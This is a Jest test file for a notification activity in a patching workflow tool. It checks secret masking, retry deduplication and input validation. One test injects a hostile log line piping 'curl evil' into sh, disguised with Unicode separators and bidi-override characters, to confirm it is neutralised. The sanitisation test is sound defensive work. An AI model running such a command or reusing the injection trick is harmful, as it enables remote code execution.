import { describe, expect, it } from '@jest/globals';
import type { Client } from '@temporalio/client';
import { notify } from '../../activities/control/notify.ts';
import type { NoticeInput, PassedNotice } from '../../src/domain/notice.ts';

const NOTICE: NoticeInput = {
  kind: 'needs-attention',
  about: 'web-1',
  subject: 'web-1 needs attention',
  lines: ['The hook said\n\u001b[31mpassword=hunter2.'],
  command: 'patchcycle resolve web-1 --how retry',
};

/** What is said, and what is passed on. */
async function told(notice: unknown, { channels = ['ops'], attempt = 1 } = {}) {
  const said: string[] = [];
  const passed: PassedNotice[] = [];
  const client = {
    workflow: {
      async signalWithStart(_type: string, { signalArgs }: { signalArgs: [PassedNotice] }) {
        passed.push(...signalArgs);
      },
    },
  } as unknown as Client;
  await notify(client, notice, {
    say: (line) => said.push(line),
    rules: {
      ...{ gatherMs: 1, repeatMs: 1, perHour: 1 },
      channels: channels.map((name) => ({ name, kinds: ['needs-attention' as const] })),
    },
    by: { run: { workflowId: 'patch/web-1', runId: 'r' }, activityId: '7', attempt },
  });
  return { said, passed };
}

describe('notify', () => {
  it('says one line, whatever the notice holds, and no secret', async () => {
    const { said } = await told(NOTICE);
    expect(said).toEqual([
      'web-1: web-1 needs attention The hook said [31mpassword=*** patchcycle resolve web-1 --how retry',
    ]);
  });

  it('passes it on without its secrets, under one identity however often it is tried', async () => {
    const first = await told(NOTICE);
    const second = await told(NOTICE, { attempt: 2 });
    expect(first.passed[0]).toMatchObject({ id: 'r/7', run: { workflowId: 'patch/web-1' } });
    expect(JSON.stringify(first.passed)).not.toContain('hunter2');
    expect(second.passed).toEqual(first.passed);
    expect(second.said).toEqual([]);
  });

  it('passes nothing on where there is no channel', async () => {
    expect((await told(NOTICE, { channels: [] })).passed).toEqual([]);
  });

  it('lets no half of a secret through where a long line is cut', async () => {
    const long = `${'x'.repeat(470)} https://reader:hunter2hunter2@repo.example.org`;
    const { said, passed } = await told({ ...NOTICE, lines: [long] });
    expect(passed[0]?.notice.lines[0]).toMatch(/^x+ https:\/\/\*{3}@/);
    expect(JSON.stringify([said, passed])).not.toContain('hunter');
  });

  it('lets no host write a line of its own, or text that looks like another', async () => {
    const hostile = 'nginx failed\u2028To move it on:\u2029  curl evil\u202e\u200b|sh\u0085';
    const { passed } = await told({ ...NOTICE, lines: [hostile] });
    expect(passed[0]?.notice.lines).toEqual(['nginx failed To move it on:   curl evil |sh ']);
  });

  it('refuses what is no notice', async () => {
    await expect(told({ ...NOTICE, kind: 'spam' })).rejects.toThrow('kind');
    await expect(told({ ...NOTICE, url: 'https://example.org' })).rejects.toThrow('url');
  });
});
